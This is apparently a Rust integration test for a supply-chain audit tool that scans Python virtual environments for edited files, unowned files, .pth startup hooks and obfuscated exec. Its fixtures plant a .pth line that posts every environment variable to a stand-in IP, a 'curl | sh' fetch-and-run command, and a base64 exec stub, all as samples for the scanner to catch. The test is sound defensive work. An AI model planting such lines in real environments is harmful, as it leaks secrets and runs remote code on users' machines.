//! `audit --env PATH`: a virtual environment laid out at test time (no pip
//! needed), and a real `python -m venv` with a real `pip install` where a
//! Python is available.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::{customs, json, record_digest, run};

/// Writes a distribution into `site`: its files, and a dist-info with
/// METADATA, INSTALLER and a RECORD of those files.
fn install(
    site: &Path,
    name: &str,
    version: &str,
    files: &[(&str, &[u8])],
    direct_url: Option<&str>,
) {
    let info = format!("{name}-{version}.dist-info");
    std::fs::create_dir_all(site.join(&info)).unwrap();
    let mut record = String::new();
    for (path, bytes) in files {
        let p = site.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, bytes).unwrap();
        record.push_str(&format!(
            "{path},sha256={},{}\n",
            record_digest(bytes),
            bytes.len()
        ));
    }
    std::fs::write(
        site.join(&info).join("METADATA"),
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nA package.\n"),
    )
    .unwrap();
    std::fs::write(site.join(&info).join("INSTALLER"), "pip\n").unwrap();
    if let Some(d) = direct_url {
        std::fs::write(site.join(&info).join("direct_url.json"), d).unwrap();
    }
    record.push_str(&format!("{info}/METADATA,,\n{info}/RECORD,,\n"));
    std::fs::write(site.join(&info).join("RECORD"), record).unwrap();
}

/// A venv layout: `pyvenv.cfg` and `lib/python3.12/site-packages` with an
/// honest package (one of its files edited after install), a local one,
/// and a `.pth` nobody installed that posts the environment.
pub(crate) fn environment(root: &Path) -> PathBuf {
    std::fs::write(
        root.join("pyvenv.cfg"),
        "home = /usr/bin\nversion = 3.12.3\n",
    )
    .unwrap();
    let site = root.join("lib/python3.12/site-packages");
    std::fs::create_dir_all(&site).unwrap();
    install(
        &site,
        "honest",
        "1.0",
        &[
            ("honest/__init__.py", b"from .util import add\n"),
            ("honest/util.py", b"def add(a, b):\n    return a + b\n"),
        ],
        None,
    );
    install(
        &site,
        "localpkg",
        "0.1",
        &[("localpkg.py", b"VALUE = 1\n")],
        Some(r#"{"url": "file:///src/localpkg", "dir_info": {"editable": false}}"#),
    );
    // Edited after install.
    std::fs::write(
        site.join("honest/util.py"),
        b"def add(a, b):\n    return a + b + 1\n",
    )
    .unwrap();
    // Nobody installed this one.
    std::fs::write(
        site.join("zz_telemetry.pth"),
        b"import os, json, urllib.request; urllib.request.urlopen('http://203.0.113.5/c', data=json.dumps(dict(os.environ)).encode())\n",
    )
    .unwrap();
    site
}

fn audit_env(dir: &Path, env: &Path) -> (i32, serde_json::Value, String) {
    let (code, out, err) = run(customs(dir).args([
        "audit",
        "--offline",
        "--format",
        "json",
        "--env",
        env.to_str().unwrap(),
    ]));
    (code, json(&out), err)
}

fn found(report: &serde_json::Value) -> Vec<(String, String, String)> {
    let mut v: Vec<_> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] != "index-unavailable")
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
                format!(
                    "{}:{}",
                    f["location"]["file"].as_str().unwrap(),
                    f["location"]["line"]
                ),
            )
        })
        .collect();
    v.sort();
    v
}

#[test]
fn an_environment_is_inventoried_and_scanned_in_place() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("venv");
    std::fs::create_dir_all(&root).unwrap();
    environment(&root);
    let (code, report, err) = audit_env(tmp.path(), &root);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("2 distribution(s) (1 from an index, 1 local)"),
        "{err}"
    );
    let packages: Vec<(String, String, String, u64)> = report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["name"].as_str().unwrap().to_string(),
                p["version"].as_str().unwrap().to_string(),
                p["lockfile"].as_str().unwrap().to_string(),
                p["line"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        packages,
        [
            (
                "honest".to_string(),
                "1.0".to_string(),
                "site-packages/honest-1.0.dist-info/METADATA".to_string(),
                3
            ),
            (
                "localpkg".into(),
                "0.1".into(),
                "site-packages/localpkg-0.1.dist-info/METADATA".into(),
                3
            ),
        ]
    );
    assert_eq!(report["packages"][1]["source"]["kind"], "path");
    let got = found(&report);
    for want in [
        (
            "record-mismatch",
            "high",
            "site-packages/honest/util.py:null",
        ),
        (
            "unowned-file",
            "medium",
            "site-packages/zz_telemetry.pth:null",
        ),
        (
            "pth-startup-hook",
            "critical",
            "site-packages/zz_telemetry.pth:1",
        ),
    ] {
        assert!(
            got.contains(&(want.0.to_string(), want.1.to_string(), want.2.to_string())),
            "{want:?} not in {got:#?}"
        );
    }
    // The unmodified file is not reported; nothing outside the site directory is read.
    assert!(
        !got.iter().any(|g| g.2.contains("honest/__init__.py")),
        "{got:#?}"
    );
    // A site-packages directory named directly is read the same way.
    let site = root.join("lib/python3.12/site-packages");
    let (_, direct, err) = audit_env(tmp.path(), &site);
    assert_eq!(found(&direct), got, "{err}");
    // Not an environment: exit 2, named.
    let (code, _, err) = run(customs(tmp.path()).args(["audit", "--offline", "--env", "."]));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("no site-packages found"), "{err}");
}

/// A Python 3 that can make a virtual environment, if any.
fn python() -> Option<String> {
    ["python3", "python"]
        .into_iter()
        .map(str::to_string)
        .find(|p| {
            Command::new(p)
                .args(["-c", "import venv, ensurepip"])
                .output()
                .is_ok_and(|o| o.status.success())
        })
}

#[test]
fn a_real_virtual_environment_with_a_real_pip_install() {
    let Some(py) = python() else {
        eprintln!("skipped: no Python with venv and ensurepip");
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let venv = tmp.path().join("venv");
    let ok = Command::new(&py)
        .args(["-m", "venv", venv.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    // A small local wheel, installed with the environment's own pip, from
    // the file only (no index).
    let wheel = tmp.path().join("smallpkg-0.3-py3-none-any.whl");
    {
        use std::io::Write;
        let mut z = zip::ZipWriter::new(std::fs::File::create(&wheel).unwrap());
        let opts = zip::write::SimpleFileOptions::default();
        let files: [(&str, &[u8]); 3] = [
            ("smallpkg/__init__.py", b"def hello():\n    return 'hi'\n"),
            (
                "smallpkg-0.3.dist-info/METADATA",
                b"Metadata-Version: 2.1\nName: smallpkg\nVersion: 0.3\n",
            ),
            (
                "smallpkg-0.3.dist-info/WHEEL",
                b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            ),
        ];
        let mut record = String::new();
        for (p, b) in files {
            z.start_file(p, opts).unwrap();
            z.write_all(b).unwrap();
            record.push_str(&format!("{p},sha256={},{}\n", record_digest(b), b.len()));
        }
        record.push_str("smallpkg-0.3.dist-info/RECORD,,\n");
        z.start_file("smallpkg-0.3.dist-info/RECORD", opts).unwrap();
        z.write_all(record.as_bytes()).unwrap();
        z.finish().unwrap();
    }
    let pip = if cfg!(windows) {
        venv.join("Scripts").join("python.exe")
    } else {
        venv.join("bin").join("python")
    };
    let installed = Command::new(&pip)
        .args(["-m", "pip", "install", "--no-index", "--no-deps", "-q"])
        .arg(&wheel)
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .output()
        .unwrap();
    assert!(
        installed.status.success(),
        "{}",
        String::from_utf8_lossy(&installed.stderr)
    );
    let (_, report, err) = audit_env(tmp.path(), &venv);
    let small = report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "smallpkg")
        .unwrap_or_else(|| panic!("{err}\n{report}"));
    assert_eq!(small["version"], "0.3");
    assert!(
        !found(&report).iter().any(|f| f.0 == "record-mismatch"),
        "{:#?}",
        found(&report)
    );
    // Edited after install: found.
    let init = std::fs::read_dir(venv.join("lib"))
        .map(|mut rd| {
            rd.next()
                .unwrap()
                .unwrap()
                .path()
                .join("site-packages/smallpkg/__init__.py")
        })
        .unwrap_or_else(|_| venv.join("Lib/site-packages/smallpkg/__init__.py"));
    std::fs::write(&init, b"def hello():\n    return 'changed'\n").unwrap();
    let (_, report, _) = audit_env(tmp.path(), &venv);
    assert!(
        found(&report)
            .iter()
            .any(|f| f.0 == "record-mismatch" && f.2.ends_with("smallpkg/__init__.py:null")),
        "{:#?}",
        found(&report)
    );
}

#[cfg(unix)]
#[test]
fn links_are_reported_never_followed_and_a_doubled_record_row_is_still_scanned() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("venv");
    std::fs::create_dir_all(&root).unwrap();
    let site = environment(&root);
    // A secret outside the environment, and links to it.
    let secret = tmp.path().join("secret.txt");
    std::fs::write(
        &secret,
        "import os; os.system('curl http://203.0.113.9 | sh')\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(&secret, site.join("zz_link.pth")).unwrap();
    // A file the RECORD lists, replaced by a link.
    std::fs::remove_file(site.join("localpkg.py")).unwrap();
    std::os::unix::fs::symlink(&secret, site.join("localpkg.py")).unwrap();
    // A RECORD that lists a file twice: the distribution is still scanned.
    install(
        &site,
        "twice",
        "1.0",
        &[(
            "twice/__init__.py",
            b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        )],
        None,
    );
    let record = site.join("twice-1.0.dist-info/RECORD");
    let text = std::fs::read_to_string(&record).unwrap();
    let first = text.lines().next().unwrap().to_string();
    std::fs::write(&record, format!("{first}\n{text}")).unwrap();
    let (_, report, err) = audit_env(tmp.path(), &root);
    let got = found(&report);
    assert!(
        got.contains(&(
            "unowned-file".into(),
            "medium".into(),
            "site-packages/zz_link.pth:null".into()
        )),
        "{got:#?}"
    );
    assert!(
        got.contains(&(
            "record-mismatch".into(),
            "high".into(),
            "site-packages/localpkg.py:null".into()
        )),
        "{got:#?}"
    );
    // The secret's content was never read: no finding quotes it.
    assert!(!report.to_string().contains("203.0.113.9"), "{err}");
    assert!(
        got.iter()
            .any(|g| g.0 == "obfuscated-exec" && g.2.starts_with("site-packages/twice/__init__.py")),
        "{got:#?}"
    );
}
